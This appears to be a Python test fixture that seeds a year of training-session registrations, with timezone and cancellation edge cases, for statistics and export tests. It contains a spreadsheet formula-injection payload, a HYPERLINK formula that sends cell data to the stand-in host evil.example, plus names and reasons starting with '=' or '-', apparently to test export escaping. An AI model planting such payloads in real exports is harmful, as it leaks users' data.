"""A year of registrations for the statistics and export tests: two structures (one of them not a member), a
refused, a cancelled and a pending registration, recorded attendance, a session that starts on 1 January in
Paris while it is still 31 December in UTC, one of the previous year, two evaluations and a cancelled session."""

from __future__ import annotations

from dataclasses import dataclass, field
from datetime import UTC, datetime

from world import Org, Person, Seats, World, member_of, training_session

from parcourspro_gql.clock import clock
from parcourspro_gql.models import Evaluation, Registration, RegistrationStatus, Role, TrainingSession

S = RegistrationStatus
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'


@dataclass
class YearWorld:
    world: World
    provider: Org = field(init=False)
    trainer: Person = field(init=False)
    member: Org = field(init=False)
    employer: Person = field(init=False)
    referent: Person = field(init=False)
    other: Org = field(init=False)
    other_employer: Person = field(init=False)
    manager: Person = field(init=False)
    december: Seats = field(init=False)
    summer: Seats = field(init=False)
    new_year: Seats = field(init=False)
    last_year: Seats = field(init=False)
    people: dict[str, Person] = field(default_factory=dict)

    async def build(self) -> YearWorld:
        world = self.world
        now = clock.now()  # 2026-11-28 09:00 UTC (the clock fixture)
        self.provider = await world.structure("Institut de Formation Aquitaine")
        self.trainer = await world.person(self.provider, Role.PROVIDER)
        self.member = await world.structure("Mission Locale des Graves")
        await member_of(world, self.member, 2026)
        self.employer = await world.person(self.member, Role.EMPLOYER)
        self.referent = await world.person(self.member, Role.REFERENT)
        self.other = await world.structure(
            "=Cap Emploi Gironde"
        )  # not a member; a name that looks like a formula
        self.other_employer = await world.person(self.other, Role.EMPLOYER)
        self.manager = await world.manager()
        await world.person(self.member)  # a colleague without any registration
        self.december = await training_session(
            world, self.provider, title="Accueillir les publics", capacity=10
        )
        self.summer = await training_session(
            world,
            self.provider,
            title="Conduite d'entretien",
            capacity=5,
            starts_in=datetime(2026, 8, 20, 7, tzinfo=UTC) - now,
            open_=False,
        )
        # 23:30 UTC on 31 December is 00:30 on 1 January in Paris: a session of 2027.
        self.new_year = await training_session(
            world,
            self.provider,
            title="Réveillon",
            capacity=10,
            starts_in=datetime(2026, 12, 31, 23, 30, tzinfo=UTC) - now,
        )
        self.last_year = await training_session(
            world,
            self.provider,
            title="Archives",
            capacity=8,
            starts_in=datetime(2025, 6, 2, 7, tzinfo=UTC) - now,
            open_=False,
        )
        await self.add("a1", self.member, self.december, S.ACCEPTED)
        await self.add("a2", self.member, self.december, S.REFUSED_BY_EMPLOYER, reason=HOSTILE)
        await self.evaluate(await self.add("a3", self.member, self.summer, S.ATTENDED, attended=(2, 1.0)), 5)
        await self.add("a4", self.member, self.summer, S.ABSENT, attended=(0, 0.0))
        await self.add(
            "b1", self.other, self.december, S.CANCELLED, cancel="-5 jours de congés restants : empêchement"
        )
        await self.evaluate(await self.add("b2", self.other, self.summer, S.ATTENDED, attended=(1, 0.5)), 2)
        await self.add("b3", self.other, self.december, S.PENDING_EMPLOYER)
        await self.add("a1", self.member, self.new_year, S.ACCEPTED)
        await self.add("a3", self.member, self.last_year, S.ATTENDED, attended=(2, 1.0))
        # A session of 2026 that its provider cancelled (T4): no seats were offered.
        cancelled = await training_session(world, self.provider, title="Annulée", capacity=12)
        async with world.db.transaction() as session:
            item = await session.get(TrainingSession, cancelled.session_pk)
            assert item is not None
            item.cancelled_at, item.cancellation_reason = now, "Formateur indisponible"
        return self

    async def evaluate(self, registration_id: int, rating: int) -> None:
        """Q1: the participant's evaluation of the session."""
        async with self.world.db.transaction() as session:
            registration = await session.get(Registration, registration_id)
            assert registration is not None
            session.add(
                Evaluation(
                    registration_id=registration_id,
                    session_id=registration.session_id,
                    rating=rating,
                    would_recommend=rating >= 3,
                    submitted_at=clock.now(),
                )
            )

    async def add(
        self,
        name: str,
        org: Org,
        seats: Seats,
        status: RegistrationStatus,
        *,
        reason: str | None = None,
        cancel: str | None = None,
        attended: tuple[int, float] | None = None,
    ) -> int:
        """A registration of the person `name` (made on first use, in `org`) in the state `status`, with the
        decisions that lead there."""
        if name not in self.people:
            self.people[name] = await self.world.person(org)
        person = self.people[name]
        now = clock.now()
        employer = self.employer if org is self.member else self.other_employer
        decided = status is not S.PENDING_EMPLOYER
        selected = status in (S.ACCEPTED, S.ATTENDED, S.ABSENT) or (status is S.CANCELLED)
        async with self.world.db.transaction() as session:
            row = Registration(
                beneficiary_id=person.pk,
                session_id=seats.session_pk,
                training_id=seats.training_pk,
                structure_id=org.pk,
                motivation="Je veux mieux accueillir les jeunes de notre mission locale.",
                status=status,
                over_structure_cap=False,
                requested_at=now,
                updated_at=now,
                employer_decision_by_id=employer.pk if decided else None,
                employer_decision_at=now if decided else None,
                employer_decision_comment=reason,
                provider_decision_by_id=self.trainer.pk if selected else None,
                provider_decision_at=now if selected else None,
                cancelled_by_id=person.pk if cancel else None,
                cancelled_at=now if cancel else None,
                cancellation_reason=cancel,
                half_days_attended=attended[0] if attended else None,
                attendance_rate=attended[1] if attended else None,
            )
            session.add(row)
            await session.flush()
            return row.id
